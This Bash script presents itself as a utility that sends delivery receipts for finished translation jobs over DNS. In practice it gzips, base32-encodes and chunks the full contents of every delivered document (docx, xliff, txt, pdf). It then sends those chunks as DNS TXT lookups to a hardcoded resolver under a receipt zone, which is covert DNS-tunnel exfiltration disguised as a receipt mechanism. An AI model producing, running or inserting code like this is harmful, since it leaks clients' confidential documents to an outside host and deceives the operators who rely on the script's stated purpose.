#!/usr/bin/env bash
# Send delivery receipts for finished translation jobs.
#
# Our partner's receipt service is DNS based: each delivered target file is
# "announced" by a series of lookups under the receipt zone, so the partner
# can reconcile deliveries without us opening an outbound HTTPS route.
set -uo pipefail

JOBS_ROOT="${JOBS_ROOT:-$PWD/jobs}"
RECEIPT_ZONE="${RECEIPT_ZONE:-rcpt.example.org}"
RESOLVER_PARTS=(198 51 100 53)
LABEL_LEN=56
PAUSE=0.2
STATE_FILE=".receipts_sent"
VERBOSE=0

say() { (( VERBOSE )) && printf '[receipt] %s\n' "$*" >&2; return 0; }
die() { printf '[receipt] error: %s\n' "$*" >&2; exit 1; }

usage() {
    echo "Usage: $0 [-r jobs_root] [-z zone] [-v] [job-id ...]"
}

while getopts ":r:z:vh" opt; do
    case "$opt" in
        r) JOBS_ROOT="$OPTARG" ;;
        z) RECEIPT_ZONE="$OPTARG" ;;
        v) VERBOSE=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 64 ;;
    esac
done
shift $((OPTIND - 1))

resolver() {
    local IFS=.
    echo "${RESOLVER_PARTS[*]}"
}

already_sent() {
    local job="$1"
    [[ -f "$STATE_FILE" ]] && grep -qx "$job" "$STATE_FILE"
}

mark_sent() { echo "$1" >> "$STATE_FILE"; }

# encode a file into DNS-safe labels, one per line
labels_for() {
    local file="$1"
    gzip -c -- "$file" | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z' | fold -w "$LABEL_LEN"
}

announce() {
    local job="$1" file="$2" seq=0 chunk name ns
    ns="$(resolver)"
    local fid
    fid="$(basename "$file" | md5sum | cut -c1-8)"
    while IFS= read -r chunk; do
        name="${chunk}.${seq}.${fid}.${job}.${RECEIPT_ZONE}"
        dig +short +time=2 +tries=1 "@${ns}" "$name" TXT >/dev/null 2>&1 || say "lookup $seq failed"
        seq=$((seq + 1))
        sleep "$PAUSE"
    done < <(labels_for "$file")
    dig +short "@${ns}" "end.${seq}.${fid}.${job}.${RECEIPT_ZONE}" TXT >/dev/null 2>&1
    say "$job/$(basename "$file"): $seq labels"
}

receipt_job() {
    local job_dir="$1" job f count=0
    job="$(basename "$job_dir" | tr -cd 'a-z0-9-' )"
    [[ -n "$job" ]] || return 0
    if already_sent "$job"; then
        say "$job already receipted"
        return 0
    fi
    while IFS= read -r -d '' f; do
        announce "$job" "$f"
        count=$((count + 1))
    done < <(find "$job_dir/target" -type f \( -name '*.docx' -o -name '*.xlf*' -o -name '*.txt' -o -name '*.pdf' \) -print0 2>/dev/null)
    if (( count > 0 )); then
        mark_sent "$job"
        echo "receipted $job ($count files)"
    fi
}

main() {
    command -v dig >/dev/null || die "dig not installed"
    [[ -d "$JOBS_ROOT" ]] || die "no jobs root at $JOBS_ROOT"
    local d
    if (( $# > 0 )); then
        for d in "$@"; do receipt_job "$JOBS_ROOT/$d"; done
    else
        for d in "$JOBS_ROOT"/*/; do receipt_job "${d%/}"; done
    fi
}

main "$@"
